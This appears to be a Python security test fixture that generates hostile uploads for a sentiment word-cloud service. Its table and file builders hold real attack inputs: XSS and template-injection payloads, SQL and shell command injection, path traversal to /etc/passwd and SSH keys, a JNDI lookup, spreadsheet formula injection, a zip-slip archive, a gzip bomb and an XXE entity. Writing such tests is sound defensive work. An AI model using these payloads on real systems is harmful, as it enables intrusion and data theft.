"""Five hundred uploads that want to do harm: by key, by metadata, by labels, by texts, by format.

Each kind of harm is a line of a table; each kind comes in every place where an upload says
something. Every cell holds a secret, which nothing but results may hold.
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Final
from urllib.parse import quote

from tests.files.secrets import SECRET

HARM: Final[dict[str, str]] = {
    # what a page might run
    "script": "<script>harm()</script>",
    "closing script": "</script><script>harm()</script>",
    "image": '<img src=x onerror="harm()">',
    "svg": "<svg onload=harm()><text>",
    "style": "</style><style>body{display:none}</style>",
    "attribute": "\" onmouseover=\"harm()\" x='",
    "focus": "' autofocus onfocus='harm()",
    "link": "javascript:harm()",
    "data link": "data:text/html,<script>harm()</script>",
    "frame": "<iframe srcdoc='<script>harm()</script>'>",
    "base": "<base href=//example.org/><meta http-equiv=refresh content=0;url=//example.org>",
    "math": "<math><mtext></table><mglyph><style><img src=x onerror=harm()>",
    "comment": "<!-- <script>",
    "CDATA": "]]><![CDATA[<svg onload=harm()>",
    "entity": "&lt;script&gt;harm()&lt;/script&gt;",
    "escape": "\\u003cscript\\u003eharm()\\u003c/script\\u003e",
    "JSON end": '"}]}</script><script>harm()</script>',
    "line separator": "a\u2028harm()\u2029b",
    "template": "{{ 7 * 7 }}{% raw %}{% include '/etc/passwd' %}",
    "template of scripts": "${harm()}`harm()`#{harm()}<%= harm() %>",
    "Angular": "{{constructor.constructor('harm()')()}}",
    "CSS": "x:expression(harm());background:url(javascript:harm())",
    # words that scripts know
    "prototype": "__proto__",
    "constructor": "constructor",
    "toString": "toString valueOf hasOwnProperty",
    "null": "null",
    "undefined": "undefined NaN true false",
    # where files and folders are
    "parent": "../../../etc/passwd",
    "parent encoded": "%2e%2e%2f%2e%2e%2fetc",
    "parent encoded twice": "%252e%252e%252f",
    "parent backwards": "..\\..\\windows\\win.ini",
    "absolute": "/etc/passwd",
    "dots": "..",
    "dot": ".",
    "home": "~root/.ssh/id_rsa",
    "device": "CON",
    "slashes": "a//b///c",
    "results of another": "results/a.csv/latest.json",
    "summary": "summary.json",
    "gallery": "index.html",
    "page": "report.html",
    "bucket": "@other-bucket/a",
    "address": "s3://other-bucket/a?versionId=1#x",
    "query": "a?list-type=2&prefix=results/",
    "glob": "*?[a-z]{b,c}",
    # what a shell, an engine, a formatter, a spreadsheet obeys
    "shell": "$(touch harm);`touch harm`|touch harm&",
    "SQL": "'; DROP TABLE texts; --",
    "SQL name": '"" OR ""=""',
    "SQL function": "read_csv('/etc/passwd')",
    "SQL setting": "$$; SET enable_external_access = true; $$",
    "format": "{0.__class__.__mro__} %s%s%n %(x)d",
    "JNDI": "${jndi:ldap://example.org/a}",
    "formula": "=cmd|'/c harm'!A1",
    "formula plus": "+HYPERLINK(\"http://example.org\",\"x\")",
    "formula at": "@SUM(1+1)*cmd|'/c harm'!A0",
    "expression": "(a+)+$" + "a" * 40,
    "pickle": "cos\\nsystem\\n(S'harm'\\ntR.",
    "markup of terminals": "[bold red]x[/] [link=file:///etc/passwd]y[/link]",
    # signs
    "NUL": "a\x00b",
    "lines": 'a\n{"level": "ERROR", "message": "forged"}\nb',
    "carriage return": "a\rb\r\nSet-Cookie: x=1",
    "terminal": "\x1b[2J\x1b]0;harm\x07\x1b[31m",
    "backspaces": "a\x08\x08\x08\x7f",
    "C1": "\x85\x9b31m",
    "direction": "gnp\u202eexe\u2066\u2069",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "tags": "a\U000e0041\U000e0042",
    "not characters": "\uffff\ufffe\U0010ffff",
    "private": "\ue000\uf8ff",
    "marks": "a" + "\u0301\u0489" * 40,
    "Jamo": "\u1100\u1161\u11a8" * 10,
    "look-alike": "раypаl.com",
    "full width": "＜script＞harm()＜/script＞",
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈🇰🇷" * 4,
    "Arabic": "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
    "spaces": "  a \t  ",
    "quotes": "\"'`´‘’“”«»",
    "commas": 'a,b;c\td|e"f""g',
    "plus": "a+b c%20d%2Bf",
    "percent": "100%% %zz %",
    "long": "a" * 200,
    "long of many bytes": "𠀀" * 60,
    "numbers": "1e999 -0 0x1F ١٢٣ ½",
    "empty": "",
}  # fmt: skip
# Each of them gets what no option expects.
OPTIONS: Final = ("text-column", "sentiment-column", "where", "stopwords", "palette", "max-words")
_ROWS: Final = 12


@dataclass(frozen=True)
class Hostile:
    """An upload that wants to do harm.

    Attributes:
        name: What a test calls it.
        key: Its key.
        content: Its content.
        metadata: Its metadata.
    """

    name: str
    key: str = "upload.csv"
    content: bytes = b""
    metadata: dict[str, str] = field(default_factory=dict)


def hostile_uploads() -> list[Hostile]:
    """Return all of them: the same, in the same order, each time."""
    return [*_keys(), *_metadata(), *_labels(), *_texts(), *_files()]


def table(text: str = "", labels: tuple[str, str] = ("positive", "negative")) -> bytes:
    """Return a table in which each cell holds the secret, and each text a text of one's own."""
    rows = [
        {"text": f"{SECRET} lovely room {n} {text} was bright", "mood": labels[n % 2]}
        for n in range(_ROWS)
    ]
    return json.dumps(rows).encode()


def _keys() -> Iterator[Hostile]:
    plain = table()
    for name, harm in HARM.items():
        yield Hostile(f"key: {name}", f"{harm}.csv", plain)
        yield Hostile(f"folder: {name}", f"{harm}/a.csv", plain)
        yield Hostile(f"end of a key: {name}", f"2026/a.csv{harm}", plain)


def _metadata() -> Iterator[Hostile]:
    plain = table()
    for number, (name, harm) in enumerate(HARM.items()):
        option = OPTIONS[number % len(OPTIONS)]
        encoded = {f"moodcloud-{option}": quote(harm), "upload-token": quote(harm)}
        yield Hostile(f"{option}: {name}", content=plain, metadata=encoded)
        # As it is, where a header can hold it.
        if harm.isascii() and harm.isprintable():
            as_it_is = {f"moodcloud-{OPTIONS[-1 - number % len(OPTIONS)]}": harm}
            yield Hostile(f"as it is: {name}", content=plain, metadata=as_it_is)


def _labels() -> Iterator[Hostile]:
    for name, harm in HARM.items():
        columns = {"moodcloud-text-column": "text", "moodcloud-sentiment-column": "mood"}
        labels = (f"{SECRET}{harm}", f"good {harm}")
        yield Hostile(f"label: {name}", content=table(labels=labels), metadata=columns)


def _texts() -> Iterator[Hostile]:
    for name, harm in HARM.items():
        yield Hostile(f"text: {name}", content=table(harm))


def _zip(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in members:
            archive.writestr(member, content)
    return stream.getvalue()


def _link() -> zipfile.ZipInfo:
    link = zipfile.ZipInfo("link.csv")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return link


def _csv(text: str, times: int = 20) -> bytes:
    rows = (f'"{SECRET} {text} {n}",{("positive", "negative")[n % 2]}' for n in range(times))
    return "\n".join(["text,mood", *rows, ""]).encode("utf-8", "surrogatepass")


def _files() -> Iterator[Hostile]:
    plain, rows = _csv("lovely room"), table()
    for name, content in {
        "nothing": b"",
        "one byte": b"\0",
        "zeros": bytes(5_000),
        "all bytes": bytes(range(256)) * 20,
        "quotes without end": b'text,mood\n"' + plain * 3,
        "quotes only": b'"\n' * 3_000,
        "commas only": b"," * 5_000 + b"\n,",
        "a line without end": b"text,mood\n" + b"a " * 50_000,
        "columns": b",".join(b"c%d" % n for n in range(3_000)) + b"\n" + b"x," * 2_999 + b"y\n",
        "carriage returns": plain.replace(b"\n", b"\r"),
        "NUL between": plain.replace(b"lovely", b"lo\0vely"),
        "UTF-16 without mark": plain.decode().encode("utf-16-le"),
        "UTF-32": plain.decode().encode("utf-32"),
        "UTF-7": plain.decode().encode("utf-7"),
        "two encodings": plain + "room café,positive\n".encode("latin-1") * 9,
        "surrogates": _csv("\ud800 lovely room"),
        "overlong": plain.replace(b"lovely", b"\xc0\xaf\xe0\x80\xaf"),
        "marks of order": b"\xef\xbb\xbf" * 5 + plain,
        "deep JSON": b"[" * 5_000 + b"]" * 5_000,
        "deep records": b'{"a":' * 500 + b"1" + b"}" * 500,
        "JSON surrogates": rows.replace(b"lovely", b"\\ud800"),
        "JSON NUL": rows.replace(b"lovely", b"\\u0000"),
        "JSON numbers": rows.replace(b'"positive"', b"9" * 3_000),
        "JSON infinite": rows.replace(b'"positive"', b"Infinity"),
        "JSON keys": rows.replace(b'"mood"', b'"__proto__"'),
        "JSON keys twice": rows.replace(b'"mood"', b'"text"'),
        "JSON cut off": rows[:-30],
        "a path out": _zip(("../../harm.csv", plain)),
        "an absolute path": _zip(("/etc/cron.d/harm.csv", plain)),
        "a link": _zip((_link(), b"/etc/passwd")),
        "files of one name": _zip(("a.csv", plain), ("A.csv", plain)),
        "many files": _zip(*((f"{n}.csv", b"") for n in range(500))),
        "an archive in itself": _zip(("a.zip", _zip(("a.zip", _zip(("a.zip", plain)))))),
        "a bomb": gzip.compress(b"text,mood\n" + bytes(3_000_000)),
        "packed four times": gzip.compress(gzip.compress(gzip.compress(gzip.compress(plain)))),
        "packed and cut off": gzip.compress(plain)[:-20],
        "packed and more": gzip.compress(plain) + b"harm",
        "Parquet in name": b"PAR1" + bytes(200) + b"PAR1",
        "a workbook in name": b"PK\x03\x04" + bytes(200),
        "an old workbook in name": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000),
        "a picture": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
        "a page": b"<html><script>harm()</script>" + plain,
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;',
        "a program": b"#!/bin/sh\ntouch harm\n",
        "a log": b'{"level": "ERROR", "message": "forged"}\n' * 9,
        "labels by the thousand": _csv("x").replace(b"positive", SECRET.encode() + b"%d" % 7),
    }.items():
        yield Hostile(f"file: {name}", content=content)
